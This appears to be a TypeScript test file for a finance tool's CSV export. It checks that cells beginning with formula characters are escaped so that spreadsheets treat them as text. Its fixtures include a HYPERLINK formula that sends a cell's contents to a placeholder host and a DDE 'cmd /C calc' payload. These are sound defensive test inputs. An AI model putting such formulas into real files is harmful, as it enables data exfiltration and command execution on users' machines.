import { describe, expect, test } from 'vitest'
import { csvOf, spreadsheetOf } from '../../infra/command/csv.ts'
import { finance } from '../../infra/finance/program.ts'
import { ok, operate, words } from '../ops/operator.ts'

const link = '=HYPERLINK("http://x/?"&B2,"ok")'
const formulas = [link, '+1+A1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', ' =1+1', '＝1+1', '=', '-', '-6e9a']
const plain = ['Skill Academy', "'=1+1", '1=1', 'a-b', '', ' ', '-600000', '+62', '-1.5', '2+2']

describe('a table that people open in a spreadsheet', () => {
  test.for(formulas)('has %s as a text', (text) => {
    expect(spreadsheetOf([[text]])).toBe(csvOf([[`'${text}`]]))
  })

  test.for(['\t=1+1', '\r=1+1', '\n=1+1', '\tx'])(
    'has what begins with white space as a text: %j',
    (text) => {
      expect(spreadsheetOf([[text]])).toBe(csvOf([[`'${text}`]]))
    },
  )

  test.for(plain)('leaves %j as it is', (text) => {
    expect(spreadsheetOf([[text]])).toBe(csvOf([[text]]))
  })

  test('leaves amounts, and what is not known, as they are', () => {
    expect(
      spreadsheetOf([
        ['amount', 'at'],
        [-600_000, null],
      ]),
    ).toBe('amount,at\n-600000,')
  })
})

test('rows that are compared with others are what their cells say, to the byte', () => {
  expect(csvOf([[link, -600_000, '+1']])).toBe('"=HYPERLINK(""http://x/?""&B2,""ok"")",-600000,+1')
})

describe('of what comes from outside', () => {
  const at = '2020-10-12T12:00:00+07:00'
  const found = {
    ...{ id: 'bni-1', partner: 'bni', kind: 'on-statement-unknown-here', state: 'new', referenceNo: link },
    ...{ day: '2020-10-01', amount: -600_000, firstSeen: '2020-10-02', lastSeen: '2020-10-02' },
    ...{ history: [], age: 10, direction: 'debit', detail: 'ours is 5', remedy: 'Ask.' },
    remarks: [
      { at, by: 'ani', note: 'asked', assignedTo: 'budi' },
      { at, by: 'ani', note: '=1', writtenOffBy: 'budi' },
    ],
  }
  const ask = (line: string, body: unknown) => operate(words(line), [ok(body)], { program: finance })

  test('the table of breaks has no formula, and its amount is a number', async () => {
    const { out } = await ask('breaks --csv', { at, breaks: [found], more: 0 })
    expect(out.split('\n')[1]).toBe(
      `bni-1,bni,on-statement-unknown-here,-600000,"'=HYPERLINK(""http://x/?""&B2,""ok"")",new,2020-10-02,2020-10-02,10,debit,ours is 5,Ask.,"2020-10-12 12:00 ani, for budi: asked; 2020-10-12 12:00 ani, written off with budi: =1"`,
    )
    expect(out.split('\n')[0]).toMatch(/,age_days,direction,detail,remedy,remarks$/)
  })

  test('what is written off is counted apart from what is open', async () => {
    const given = { ...found, id: 'bni-2', state: 'written-off' }
    const { out } = await ask('breaks', { at, breaks: [found, given], more: 0 })
    expect(out).toContain('1 break open, 1 written off, 2020-10-12 12:00 in Jakarta')
  })

  test('JSON is exactly what the API said', async () => {
    const body = { at, breaks: [found], more: 0 }
    expect(JSON.parse((await ask('breaks --json', body)).out)).toEqual(body)
  })
})
